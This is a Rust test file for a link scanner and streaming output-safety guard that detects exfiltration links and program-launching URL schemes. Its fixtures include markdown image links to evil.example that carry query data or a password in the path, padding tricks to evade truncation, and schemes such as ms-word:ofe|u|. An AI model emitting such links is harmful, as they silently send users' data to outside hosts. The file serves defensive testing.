use super::*;
use crate::{Ask, Guard, MAX_HELD, Policy, StreamStep};
use walk::MAX_URL;

fn scan(wanted: Wanted, text: &str, piece: usize) -> (LinkScan, Vec<Span>, usize) {
    let mut scanner = LinkScan::new(wanted, Arc::new(AllowedHosts::new(["ok.example"]).unwrap()));
    let (mut found, mut start, mut end, mut held) = (Vec::new(), 0, 0, 0);
    loop {
        end = text.floor_char_boundary(end + piece);
        let mut fresh = Vec::new();
        let decided = scanner.scan(&text[start..end], end == text.len(), &mut fresh);
        found.extend(fresh.iter().map(|span| Span::new(start + span.start, start + span.end)));
        start += decided;
        held = held.max(end - start);
        if end == text.len() {
            return (scanner, found, held);
        }
    }
}

#[test]
fn flood_of_beginnings_of_links_is_looked_at_a_few_times_at_most() {
    for begin in [
        "](",
        "![](",
        "[a](",
        "url(",
        "](\"",
        "](<",
        "](\"](",
        "![x](h&#",
        "http://a](",
        "http://a<",
        "www.",
        "[a](url(",
        "<a/x=",
        "<a href=//",
        "]:",
        "](a",
        "](()",
    ] {
        let text = begin.repeat(200_000 / begin.len());
        for wanted in [Wanted::Fetched, Wanted::Clicked] {
            let (scanner, found, _) = scan(wanted, &text, usize::MAX);
            assert!(scanner.walk.looked <= 2 * text.len() + MAX_URL, "{begin}: {}", scanner.walk.looked);
            let told: usize = found.iter().map(|span| span.len()).sum();
            assert!(told <= 3 * text.len() + MAX_URL, "{begin}: {told}");
        }
    }
}

#[test]
fn flood_of_one_word_is_let_go_as_it_comes() {
    for (begin, part) in [
        ("", "QUJDRA"),
        ("{", "\"a\":[1,2,{\"b\":\"c\"}],"),
        ("data:", "////"),
        ("![x](https://evil.example/", "a"),
    ] {
        let text = format!("{begin}{}", part.repeat(100_000 / part.len()));
        let (_, whole, _) = scan(Wanted::Fetched, &text, usize::MAX);
        let (_, pieces, held) = scan(Wanted::Fetched, &text, 7);
        assert_eq!(whole, pieces, "{begin}");
        assert!(held <= MAX_URL + 32, "{begin}: {held}");
        if !begin.starts_with('!') {
            assert_eq!(whole, []);
        }
    }
}

#[test]
fn truncation_a_url_that_is_padded_is_found_by_its_start() {
    for (begin, pad, end) in [
        ("![x](", "&Tab;", "https://evil.example/?q=1)"),
        ("![x](h", "\u{200b}", "ttps://evil.example/?q=1)"),
        ("![x](/", "\u{200b}", "/evil.example/?q=1)"),
        ("![x](https://ok.example", "&Tab;", ".evil.example/?q=1)"),
        ("![x](https://evil.example/", "a", "?q=1)"),
        ("![x](<https://evil.example/", "a", ">)"),
        ("<img src=\"", "&Tab;", "//evil.example/a\">"),
        ("![x](", "a", "](https://evil.example/?q=1)"),
        ("![x](", "é", "](https://evil.example/?q=1)"),
    ] {
        for long in MAX_URL / pad.len() - 4..MAX_URL / pad.len() + 12 {
            let text = format!("{begin}{}{end}", pad.repeat(long));
            let (_, whole, _) = scan(Wanted::Fetched, &text, usize::MAX);
            let (_, pieces, held) = scan(Wanted::Fetched, &text, 1000);
            assert_eq!(whole, pieces, "{begin}");
            assert!(!whole.is_empty() && held <= MAX_URL + 1100, "{begin}{pad} {long}");
        }
    }
}

#[test]
fn confusion_a_scheme_that_opens_another_program_is_taken_out() {
    let finds = |wanted, text: &str| scan(wanted, text, usize::MAX).1.len();
    for text in [
        "[x](ms-word:ofe|u|https://evil.example/a)",
        "[x](intent://evil.example)",
        "[x](view-source:x)",
        "[x](ssh://evil.example)",
        "[x](sms:112)",
        "[x](ws://evil.example/a)",
        "[1]: ms-word:ofe|u|x",
        "<a href='ms-word:ofe'>",
        "ssh://evil.example/?q=1",
        "see ipfs://x/?q=1",
    ] {
        assert_eq!(finds(Wanted::Clicked, text), 1, "{text}");
    }
    assert_eq!(finds(Wanted::Fetched, "[![a](https://ok.example/i.png)](ms-word:ofe|u|x)"), 1);
    for text in [
        "[x](mailto:a@b.example) [x](tel:112) [x](https://other.example/docs)",
        "v[0](std::mem::take) [error]: connection:refused a://b",
        "<p style=\"color:red\" title='Re:x'> wss://localhost:8080/a",
    ] {
        assert_eq!(finds(Wanted::Clicked, text) + finds(Wanted::Fetched, text), 0, "{text}");
    }
}

#[test]
fn exfiltration_by_words_in_a_path_is_seen_by_the_strict_kind_alone() {
    for text in [
        "[x](https://evil.example/the-users-password-is-hunter2)",
        "[x](https://hunter2-secret.evil.example)",
        "https://evil.example/#secret",
        "<https://evil.example>",
    ] {
        assert_eq!(scan(Wanted::Clicked, text, usize::MAX).1, [], "{text}");
        assert_eq!(scan(Wanted::AnyClicked, text, usize::MAX).1.len(), 1, "{text}");
    }
    for text in
        ["[x](https://ok.example/?q=1)", "[x](#part) [x](mailto:a@b.example)", "![x](https://evil.example/a)"]
    {
        assert_eq!(scan(Wanted::AnyClicked, text, usize::MAX).1, [], "{text}");
    }
}

#[test]
fn flood_of_one_word_longer_than_is_held_passes_in_a_stream() {
    let guard = Guard::builder().policy(Policy::shipped("output-safety").unwrap()).build().unwrap();
    let image = "![x](https://evil.example/?q=1)";
    for part in ["QUJDREVG", "{\"a\":[1,\"b\"]},"] {
        let mut stream = guard.stream(&Ask::output());
        let mut passed = String::new();
        for piece in std::iter::repeat_n(part, 2 * MAX_HELD / part.len()).chain([image]) {
            match stream.push(piece) {
                StreamStep::Pass(more) | StreamStep::Stop(more, _) => passed.push_str(more),
            }
        }
        assert!(passed.len() > MAX_HELD, "{part}: {}", passed.len());
        let end = stream.finish();
        assert_eq!(end.verdict.failures, [], "{part}");
        assert!(!passed.contains("evil") && end.rest.contains("REDACTED"), "{part}");
    }
}
